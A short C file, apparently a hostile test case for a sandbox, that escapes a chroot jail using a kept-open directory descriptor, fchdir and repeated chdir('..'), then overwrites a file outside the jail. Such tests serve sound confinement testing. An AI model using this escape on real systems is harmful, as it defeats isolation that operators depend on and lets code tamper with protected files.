// Leaves a changed root by the old trick with a folder that is kept open.
#include "hostile.h"

static void attack(void) {
    mkdir("prison", 0755);
    int here = open(".", O_RDONLY | O_DIRECTORY);
    if (chroot("prison") == 0) {
        broke_out("chroot");
        fchdir(here);
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
    }
    overwrite(OUTSIDE "/file");
}
